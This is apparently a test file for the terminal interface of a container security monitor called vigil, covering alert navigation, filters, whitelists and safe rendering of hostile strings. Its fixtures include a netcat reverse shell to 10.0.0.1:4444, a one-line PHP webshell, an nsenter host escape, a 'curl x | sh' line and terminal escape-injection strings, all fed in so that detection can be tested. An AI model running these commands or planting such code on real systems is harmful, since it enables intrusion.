// The workbench through its rendered frames (ink-testing-library): the list, navigation that
// never jumps, filters, acknowledgements, drill-down, whitelists, help, and hostile strings.
import { render } from 'ink-testing-library';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import type { Alert } from '../../src/engine/alert.js';
import type { VigilEvent } from '../../src/engine/events.js';
import type { Profile } from '../../src/engine/profile.js';
import { loadProfile } from '../../src/profile/load.js';
import { Session } from '../../src/runtime/session.js';
import { WhitelistService } from '../../src/runtime/whitelist.js';
import { openStateStore } from '../../src/state/store.js';
import { App, type WorkbenchProps } from '../../src/ui/app.js';
import { AlertStore } from '../../src/ui/model/alert-store.js';
import { EventWindow } from '../../src/ui/model/event-window.js';
import { StatusModel } from '../../src/ui/model/status.js';
import { snapshotEvent, snapshotFixture } from '../helpers/engine.js';
import { auditExec, CONTAINER, procSnapshot } from '../helpers/kernel-events.js';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

let profile: Profile;
beforeAll(async () => {
  profile = await loadProfile();
});

const cleanups: (() => void)[] = [];
afterEach(() => {
  while (cleanups.length) cleanups.pop()!();
});

interface Harness {
  frame: () => string;
  press: (...keys: string[]) => Promise<void>;
  /** Keys as separate reads with no render between them: a fast typist on a loaded machine. */
  burst: (...keys: string[]) => void;
  /** Keys in one read: auto-repeat over a slow link, tmux send-keys -l, a paste. */
  chunk: (...keys: string[]) => void;
  until: (text: string | RegExp, timeoutMs?: number) => Promise<string>;
  session: Session;
  store: AlertStore;
  quit: { called: boolean };
}

async function workbench(events: VigilEvent[], extra: Partial<WorkbenchProps> = {}): Promise<Harness> {
  const store = new AlertStore(1000, 5);
  const status = new StatusModel();
  const window = new EventWindow();
  const session = new Session({
    profile: extra.profile ?? profile,
    onAlert: (a) => store.add(a),
    onEvent: (e) => {
      status.observe(e);
      window.add(e);
    },
  });
  for (const e of events) session.replay(e);
  store.flush();
  const quit = { called: false };
  const app = render(
    <App
      mode="live"
      lang="en"
      store={store}
      status={status}
      events={window}
      engine={() => session.engine}
      profile={profile}
      exportAlerts={async (alerts: Alert[]) => `exported ${alerts.length}`}
      onQuit={() => (quit.called = true)}
      columns={120}
      rows={24}
      {...extra}
    />,
  );
  cleanups.push(() => {
    app.unmount();
    status.stop();
  });
  const frame = () => app.lastFrame() ?? '';
  const until = async (text: string | RegExp, timeoutMs = 3000) => {
    const end = Date.now() + timeoutMs;
    for (;;) {
      const f = frame();
      if (typeof text === 'string' ? f.includes(text) : text.test(f)) return f;
      if (Date.now() > end) throw new Error(`frame never showed ${String(text)}:\n${f}`);
      await new Promise((r) => setTimeout(r, 10));
    }
  };
  await until('vigil ·');
  const press = async (...keys: string[]) => {
    for (const k of keys) {
      app.stdin.write(k);
      await new Promise((r) => setTimeout(r, 30));
    }
  };
  const burst = (...keys: string[]) => {
    for (const k of keys) app.stdin.write(k);
  };
  const chunk = (...keys: string[]) => void app.stdin.write(keys.join(''));
  return { frame, press, burst, chunk, until, session, store, quit };
}

const DOWN = '\x1b[B';
const ENTER = '\r';
const ESC = '\x1b';

const web = () => snapshotEvent(snapshotFixture('privileged', { id: CONTAINER, name: 'web', image: 'shop/web:1' }), 'create', 1);
const sock = (i: number) => snapshotEvent(snapshotFixture('mount-docker-sock', { id: String(i).padStart(64, 'a'), name: `agent-${i}` }), 'start', 10 + i);

describe('the alert list', () => {
  it('shows alerts newest first with severity, title, container and summary, and category counts', async () => {
    const h = await workbench([web(), sock(1)]);
    const frame = h.frame();
    const lines = frame.split('\n');
    expect(lines.findIndex((l) => l.includes('agent-1'))).toBeLessThan(lines.findIndex((l) => l.includes(' web ')));
    expect(frame).toMatch(/CRITICAL\s+Container mount direc/);
    expect(frame).toMatch(/Abnormal system behavi\S*\s+2\/2/);
    expect(frame).toContain('following');
  });

  it('keeps the selection on the same alert when new ones arrive, and f follows again', async () => {
    const h = await workbench([web(), sock(1)]);
    await h.press(DOWN);
    await h.until(/12 alerts|2 alerts$/m).catch(() => undefined);
    expect(h.frame()).not.toContain('following');
    for (let i = 2; i < 6; i++) h.session.replay(sock(i));
    h.store.flush();
    await h.until('6 alerts');
    await h.press(ENTER);
    const detail = await h.until('1 Summary');
    expect(detail).toContain('Container security options'); // still the web alert
    await h.press(ESC, 'f');
    await h.until('following');
  });

  it('takes each key on the screen the keys before it left, however fast they come', async () => {
    const h = await workbench([web(), sock(1)]);
    await h.press(DOWN);
    // Open, back, follow; then help, back, down: no render between any of them. (q, not Esc:
    // Esc with a key straight behind it is that key with Alt, as on a terminal.)
    h.burst(ENTER, 'q', 'f');
    await h.until(/following/);
    h.burst('?', 'q', 'j');
    // The header: back on the list, and no longer following after the move.
    const f = await h.until(/^vigil · All alerts · 2 alerts$/m);
    expect(f).not.toContain('Keys (live)');
    // Two moves down from the top and open: the third alert, not the one the last render had.
    const three = await workbench([web(), sock(1), sock(2)]);
    three.burst('j', 'j', ENTER);
    expect(await three.until('1 Summary')).toContain('Container security options');
  });

  it('filters by text, cycles the minimum severity, and filters by category from the tree', async () => {
    const h = await workbench([web(), sock(1), procSnapshot({ exe: '/usr/bin/nc', cmdline: ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'] })]);
    await h.press('/', 'a', 'g', 'e', 'n', 't', ENTER);
    let f = await h.until('“agent”');
    expect(f).toContain('agent-1');
    expect(f).not.toMatch(/ web /);
    await h.press('/', '\x7f', '\x7f', '\x7f', '\x7f', '\x7f', ENTER);
    await h.press('s', 's', 's', 's');
    f = await h.until('≥ critical · 2 alerts');
    expect(f).not.toMatch(/HIGH|MEDIUM/);
    await h.press('s');
    // Categories are always listed, rules only once they have alerts: Malware, then Exploit.
    await h.press(']', ']');
    f = await h.until(/vigil · Exploit/);
    expect(f).toContain('No alerts match');
  });

  it('keeps the tree selection on its node when a rule above it raises its first alert', async () => {
    const h = await workbench([web(), sock(1)]);
    await h.press(']', ']', ']');
    await h.until(/vigil · Abnormal system behaviour/);
    const shell: VigilEvent = {
      seq: 50,
      ts: '2026-11-27T10:00:05.000Z',
      source: 'files',
      kind: 'file.change',
      data: { containerId: CONTAINER, path: '/var/www/html/x.php', action: 'created', size: 30, content: "<?php system($_GET['c']); ?>" },
    };
    h.session.replay(shell);
    h.store.flush();
    const f = await h.until(/^\s+Webshell\s+1\/1/m);
    expect(f).toMatch(/vigil · Abnormal system behaviour/);
  });

  it('acknowledges an alert and persists it through the callback', async () => {
    const acked: string[][] = [];
    const h = await workbench([web(), sock(1)], { persistAcks: async (ids) => void acked.push(ids) });
    await h.press('a');
    await h.until(/2\s*$|1\/2/m);
    expect(acked).toHaveLength(1);
    expect(h.frame()).toMatch(/1\/2/);
  });

  it('q quits from the list; ? shows help generated from the keymap', async () => {
    const h = await workbench([web()]);
    await h.press('?');
    const help = await h.until('Keys (live)');
    expect(help).toContain('acknowledge the alert');
    expect(help).toContain('start/stop recording');
    expect(help).not.toContain('pause/resume the replay');
    await h.press(ESC, 'q');
    expect(h.quit.called).toBe(true);
  });
});

describe('keys that arrive together in one read', () => {
  it('takes each of "jjj" as a move: three rows down', async () => {
    const h = await workbench([web(), sock(1), sock(2), sock(3)]);
    h.chunk('j', 'j', 'j');
    await h.until(/^vigil · All alerts · 4 alerts$/m);
    await h.press(ENTER);
    expect(await h.until('1 Summary')).toContain('Container security options'); // the fourth row
  });

  it('takes arrows, letters and Enter in one read in order, each on the screen the key before left', async () => {
    const h = await workbench([web(), sock(1), sock(2), sock(3)]);
    h.chunk(DOWN, 'j', DOWN, ENTER);
    expect(await h.until('1 Summary')).toContain('Container security options');
    // q back, f to follow (the top row), then one down and open: the second row, not the fifth.
    h.chunk('q', 'f', 'j', ENTER);
    await h.until(/^container\s+agent-2 /m);
    h.chunk('q', ']', ']', ']', 's', 's', 's', 's');
    await h.until(/^vigil · Abnormal system behaviour · ≥ critical · 4 alerts$/m);
  });

  it('"+++" in a replay raises the speed three steps', async () => {
    const calls: string[] = [];
    const replay = Object.fromEntries(
      ['togglePause', 'faster', 'slower', 'step', 'nextAlert', 'previousAlert', 'seekStart', 'seekEnd'].map((m) => [m, () => void calls.push(m)]),
    ) as unknown as NonNullable<WorkbenchProps['replay']>;
    replay.subscribe = () => () => {};
    const state = { position: 3, total: 10, speed: 1, paused: false, ended: false };
    replay.getState = () => state;
    const h = await workbench([web()], { mode: 'replay', replay });
    h.chunk('+', '+', '+');
    await vi.waitFor(() => expect(calls).toEqual(['faster', 'faster', 'faster']));
    h.chunk('-', '=');
    await vi.waitFor(() => expect(calls.slice(3)).toEqual(['slower', 'faster']));
  });

  it('puts a chunk typed in the filter into the filter as text, with Backspace and Esc still acting', async () => {
    const h = await workbench([web(), sock(1)]);
    await h.press('/');
    await h.until('filter: ');
    h.chunk('a', 'g', 'e', 'n', 't', 'x', '\x7f');
    await h.until('filter: agent▏');
    h.chunk(' ', 'j', 'q', ESC);
    await h.until(/^vigil · All alerts · 2 alerts/m);
    expect(h.quit.called).toBe(false);
  });

  it('applies a filter typed with its Enter in one read, and the keys after it act on the filtered list', async () => {
    const exported: string[] = [];
    const exportAlerts = async (alerts: Alert[]) => {
      exported.push(...alerts.map((a) => a.container?.name ?? '?'));
      return 'exported';
    };
    const h = await workbench([web(), sock(1), sock(2)], { exportAlerts });
    h.chunk('/', 'a', 'g', 'e', 'n', 't', ENTER);
    const f = await h.until('“agent”');
    expect(f).toContain('2 alerts');
    expect(f).not.toMatch(/ web /);
    // Refiltered to web and exported in the same read: the export is of web, the one row left.
    h.chunk('/', '\x7f', '\x7f', '\x7f', '\x7f', '\x7f', 'w', 'e', 'b', ENTER, 'e');
    await h.until('“web” · 1 alert');
    await vi.waitFor(() => expect(exported).toEqual(['web']));
  });
});

describe('drill-down', () => {
  it('switches tabs with 1–6 and arrows, and says why a tab has nothing to show', async () => {
    const h = await workbench([web()]);
    await h.press(ENTER);
    await h.until('privileged:true');
    await h.press('2');
    await h.until("this alert is about the container's configuration");
    await h.press('\x1b[C');
    await h.until('Mounts');
    await h.press('4');
    await h.until(/privileged\s+yes/);
    await h.press('6');
    await h.until('not a cluster alert');
  });

  it('shows the process tree with the offender marked', async () => {
    const shell = procSnapshot({ pid: 4200, ppid: 4100, startTime: 4000, exe: '/bin/sh', cmdline: ['sh'] });
    const h = await workbench([web(), shell, auditExec({ pid: 4242, ppid: 4200, exe: '/usr/bin/nsenter', cmdline: ['nsenter', '-t', '1', '-m', 'sh'] })]);
    await h.press(ENTER, '2');
    const f = await h.until('nsenter -t 1');
    expect(f).toMatch(/▶\s+4242/);
    expect(f).toMatch(/4200\s+root/);
    expect(f).toMatch(/boot\+00:00:40/); // a recording's host booted at an unknown time
  });

  it('live, shows process start times as dates from the host boot clock', async () => {
    const shell = procSnapshot({ pid: 4200, ppid: 4100, startTime: 4000, exe: '/bin/sh', cmdline: ['sh'] });
    const clock = { bootTimeMs: Date.parse('2026-11-27T09:00:00Z'), ticksPerSecond: 100 };
    const h = await workbench([web(), shell, auditExec({ pid: 4242, ppid: 4200, exe: '/usr/bin/nsenter', cmdline: ['nsenter', '-t', '1', '-m', 'sh'] })], { clock });
    await h.press(ENTER, '2');
    expect(await h.until('nsenter -t 1')).toMatch(/2026-11-27T09:00:40Z/);
  });
});

describe('whitelists', () => {
  it('w adds the process to its image whitelist after confirmation; W lists, toggles, deletes and undoes', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'vigil-ui-'));
    cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
    const state = await openStateStore(join(dir, 'state.json'), { onWarning: () => {} });
    const bound = { ...profile, processWhitelist: { 'shop/web:*': ['sh'] } };
    const events = [web(), auditExec({ pid: 50, exe: '/usr/bin/wget', cmdline: ['wget', 'x'] })];
    let session: Session | undefined;
    const h = await workbench(events, { profile: bound, whitelist: new WhitelistService(state, (e) => session!.ingest(e)) });
    session = h.session;
    await h.press('w');
    await h.until('whitelist wget for image shop/web:1? (y/n)');
    await h.press('y');
    await h.until('whitelisted wget for shop/web:1');
    expect(state.data.whitelist.map((e) => [e.image, e.process, e.enabled])).toEqual([['shop/web:1', 'wget', true]]);
    // Applied at once: the same program no longer alerts.
    h.session.replay(auditExec({ pid: 51, exe: '/usr/bin/wget', cmdline: ['wget', 'y'] }));
    expect(h.session.engine.stats.alerts).toBe(2);
    await h.press('W');
    await h.until(/shop\/web:1\s+\[x\] wget/);
    await h.press(' ');
    await h.until(/\[ \] wget/);
    await h.press('d');
    await h.until('No entries');
    await h.press('u');
    await h.until(/\[ \] wget/);
    expect(state.data.whitelist.map((e) => e.enabled)).toEqual([false]);
  });
});

describe('hostile strings', () => {
  it('renders escape sequences, controls and bidi overrides in names and argv inert', async () => {
    const evil = 'evil\x1b]0;pwned\x07\x1b[2J\u202egnp.exe\x9b31m';
    const h = await workbench([
      snapshotEvent(snapshotFixture('privileged', { id: CONTAINER, name: evil, image: `img${evil}` }), 'create', 1),
      auditExec({ exe: `/tmp/${evil}`, cmdline: ['sh', '-c', `curl x | sh ${evil}`] }),
    ]);
    const check = (f: string) => {
      expect(f).not.toMatch(/\x1b\]|\x07|\u202e|\x9b|\x1b\[2J/);
      expect(f).toMatch(/\\(x1b|u001b)\]0;pwned/);
    };
    check(h.frame());
    await h.press(ENTER);
    check(await h.until('1 Summary'));
    for (const tab of ['2', '4', '5']) {
      await h.press(tab);
      await new Promise((r) => setTimeout(r, 50));
      check(h.frame());
    }
  });
});

describe('--lang zh', () => {
  it('shows the Chinese rule titles and category names', async () => {
    const h = await workbench([web()], { lang: 'zh' });
    const f = h.frame();
    expect(f).toContain('容器安全选项');
    expect(f).toContain('系统异常行为');
    expect(f).toContain('全部告警');
  });
});

describe('without any live source', () => {
  it('opens anyway, with the reasons in the status line and a hint to replay a shipped recording', async () => {
    const down = (source: string, reason: string): VigilEvent => ({ seq: 0, ts: '2026-11-27T10:00:00.000Z', source: 'vigil', kind: 'source.status', data: { source, state: 'down', reason } });
    const h = await workbench([down('docker', 'connect ENOENT /var/run/docker.sock'), down('audit', 'not running as root')]);
    const f = await h.until('try: vigil --replay recordings/demo-kernel-incident.jsonl.gz');
    expect(f).toContain('docker: connect ENOENT /var/run/docker.sock');
    expect(f).toMatch(/● docker down\s+● audit down/);
  });
});

describe('actions wired to the keymap', () => {
  it('e exports the selected alert, E every visible one, R toggles recording', async () => {
    const exported: number[] = [];
    let recording = false;
    const h = await workbench([web(), sock(1)], {
      exportAlerts: async (alerts) => {
        exported.push(alerts.length);
        return `exported ${alerts.length} to report.md`;
      },
      toggleRecording: async () => ((recording = !recording) ? 'recording to recordings/x.jsonl.gz' : 'recording saved'),
    });
    await h.press('e');
    await h.until('exported 1 to report.md');
    await h.press('E');
    await h.until('exported 2 to report.md');
    expect(exported).toEqual([1, 2]);
    await h.press('R');
    await h.until('recording to recordings/x.jsonl.gz');
    await h.press('R');
    await h.until('recording saved');
  });

  it('replay keys drive the player; live-only keys do nothing in replay', async () => {
    const calls: string[] = [];
    const state = { position: 3, total: 10, speed: 1 as const, paused: false, ended: false };
    const replay = Object.fromEntries(
      ['togglePause', 'faster', 'slower', 'step', 'nextAlert', 'previousAlert', 'seekStart', 'seekEnd'].map((m) => [m, () => void calls.push(m)]),
    ) as unknown as NonNullable<WorkbenchProps['replay']>;
    replay.subscribe = () => () => {};
    replay.getState = () => state;
    let recorded = false;
    const h = await workbench([web()], { mode: 'replay', replay, toggleRecording: async () => ((recorded = true), '') });
    expect(h.frame()).toMatch(/REPLAY\s+playing 3\/10 1×/);
    for (const key of [' ', '+', '-', '.', 'n', 'N', 'g', 'G', 'R']) await h.press(key);
    expect(calls).toEqual(['togglePause', 'faster', 'slower', 'step', 'nextAlert', 'previousAlert', 'seekStart', 'seekEnd']);
    expect(recorded).toBe(false);
  });
});
